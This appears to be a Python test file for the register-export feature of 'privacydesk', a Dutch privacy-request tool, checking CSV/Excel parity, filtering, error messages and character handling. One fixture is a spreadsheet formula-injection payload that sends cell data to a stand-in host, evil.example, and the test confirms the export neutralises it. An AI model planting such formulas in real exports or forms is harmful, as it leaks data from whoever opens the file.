"""The register leaves the program as CSV or Excel with the same columns, and never as a trap."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from privacydesk.core.workflow import Status
from privacydesk.services import Services
from privacydesk.services.export import HEADER, ExportError, ExportFormat, write_file
from tests.services.helpers import new_request

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_a_formula_typed_as_a_name_is_plain_text_in_both_exports(
    services: Services, tmp_path: Path
) -> None:
    services.cases.register(new_request(EVIL))
    services.cases.register(new_request("@SUM(1+1)", received=date(2026, 11, 21)))
    services.export.write(tmp_path / "r.csv", ExportFormat.CSV)
    services.export.write(tmp_path / "r.xlsx", ExportFormat.XLSX)

    rows = _csv_rows(tmp_path / "r.csv")
    names = {r[1] for r in rows[1:]}
    assert names == {"'" + EVIL, "'@SUM(1+1)"}

    sheet = load_workbook(tmp_path / "r.xlsx").active
    cells = [sheet.cell(row=r, column=2) for r in (2, 3)]
    assert {c.value for c in cells} == {EVIL, "@SUM(1+1)"}  # the name as typed …
    assert all(c.data_type == "s" for c in cells)  # … stored as text, not as a formula


def test_csv_and_excel_hold_the_same_columns_and_values(services: Services, tmp_path: Path) -> None:
    case = services.cases.register(new_request("Noël Lemaître"))
    services.cases.change_status(case.id, Status.WITHDRAWN)
    services.export.write(tmp_path / "r.csv", ExportFormat.CSV)
    services.export.write(tmp_path / "r.xlsx", ExportFormat.XLSX)
    rows = _csv_rows(tmp_path / "r.csv")
    sheet = load_workbook(tmp_path / "r.xlsx").active
    xlsx_rows = [
        ["" if v is None else v.date().isoformat() if hasattr(v, "date") else v for v in row]
        for row in sheet.iter_rows(values_only=True)
    ]
    assert rows[0] == list(HEADER) == xlsx_rows[0]
    assert rows[1] == xlsx_rows[1]
    assert rows[1][:5] == [
        "PD-2026-0001",
        "Noël Lemaître",
        "Recht op inzage",
        "E-mail",
        "2026-11-20",
    ]
    assert rows[1][8:] == ["Geen antwoord nodig", "Ingetrokken", ""]


def test_the_current_filter_exports_only_its_cases_in_the_order_shown(
    services: Services,
) -> None:
    first = services.cases.register(new_request("Jan Peeters"))
    services.cases.register(new_request("Lieve De Smet"))
    third = services.cases.register(new_request("Zoë Willems"))
    table = services.export.table([third.id, first.id])
    assert [row[1] for row in table.rows] == ["Zoë Willems", "Jan Peeters"]
    assert [row[0] for row in services.export.table().rows] == [
        "PD-2026-0001",
        "PD-2026-0002",
        "PD-2026-0003",
    ]


def test_an_export_that_cannot_be_written_leaves_no_file_and_says_why(
    services: Services, tmp_path: Path
) -> None:
    services.cases.register(new_request())
    target = tmp_path / "missing" / "r.xlsx"
    with pytest.raises(ExportError, match="kan niet geschreven worden"):
        services.export.write(target, ExportFormat.XLSX)
    assert not target.parent.exists()


def test_each_exported_row_says_what_the_case_view_says(services: Services) -> None:
    """Every status, an extension recorded late, a pause: the export's dates, deadline and
    labels are the case's own (the export reads plain columns, not the case records)."""
    from privacydesk.core.case import CHANNEL_LABEL_NL
    from privacydesk.core.deadlines import DEADLINE_STATE_LABEL_NL
    from privacydesk.core.rights import RIGHT_INFO
    from privacydesk.core.workflow import STATUS_LABEL_NL
    from tests.services.test_case_rows import _one_of_each_status

    made = _one_of_each_status(services)
    rows = {row[0]: row for row in services.export.table().rows}
    assert len(rows) == len(made)
    for case_id in made.values():
        record = services.cases.get(case_id)
        deadline = services.cases.deadline(case_id)
        assert rows[record.reference] == (
            record.reference,
            record.requester.name,
            "; ".join(RIGHT_INFO[r.right].label_nl for r in record.rights),
            CHANNEL_LABEL_NL[record.channel],
            record.received,
            deadline.due,
            "ja" if record.extended else "nee",
            record.answered_on,
            DEADLINE_STATE_LABEL_NL[deadline.state],
            STATUS_LABEL_NL[record.status],
            rows[record.reference][10],
        )
    closed = services.cases.get(made[Status.CLOSED]).reference
    assert rows[closed][10] == date(2026, 11, 25)  # closed on the test's today
    assert {row[10] for ref, row in rows.items() if ref != closed} == {None}


def test_the_csv_is_quoted_exactly_as_the_csv_module_quotes_it() -> None:
    """The export writes its lines itself (each distinct cell once); a spreadsheet must
    read the same cells as from the csv module's own writer."""
    from privacydesk.core.spreadsheet import safe_cell
    from privacydesk.services.export import ExportTable, csv_bytes

    awkward = [
        'De "Vries"; Jan',
        "regel\neen",
        "terug\rnaar",
        "  spaties  ",
        "komma, punt.",
        "=1+1",
        "-5",
        "",
        "tab\there",
        "Ærø ‘quotes’ 😀",
    ]
    rows: list[tuple[str | date | None, ...]] = [
        (text, date(2026, 2, 28), None, text[::-1]) for text in awkward
    ]
    table = ExportTable(("a", "b;c", 'd"e', "f"), rows)
    expected = io.StringIO()
    writer = csv.writer(expected, delimiter=";", lineterminator="\r\n")
    writer.writerow(table.header)
    for row in rows:
        writer.writerow(
            [
                safe_cell("" if c is None else c.isoformat() if isinstance(c, date) else c)
                for c in row
            ]
        )
    assert csv_bytes(table) == expected.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize(
    ("name", "hint"),
    [("register.xlsx", "open in Excel"), ("brief.pdf", "open in een PDF-lezer")],
)
def test_a_locked_file_names_the_program_to_close(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, hint: str
) -> None:
    import os

    def locked(source: object, target: object) -> None:  # Windows: open in another program
        raise PermissionError(13, "Permission denied", str(target))

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ExportError) as raised:
        write_file(tmp_path / name, b"data")
    assert (
        str(raised.value)
        == f"{tmp_path / name} kan niet geschreven worden: geen toegang (is het bestand nog {hint}?)."
    )
    assert list(tmp_path.iterdir()) == []  # nothing half-written left behind


def test_a_control_character_in_a_name_does_not_stop_the_excel_export() -> None:
    from privacydesk.services.export import ExportTable, xlsx_bytes

    table = ExportTable(HEADER[:2], [("PD-2026-0001", "Piet\x07Bel"), ("PD-2026-0002", "An")])
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table))).active
    assert sheet is not None
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "Piet\ufffdBel",
        "An",
    ]
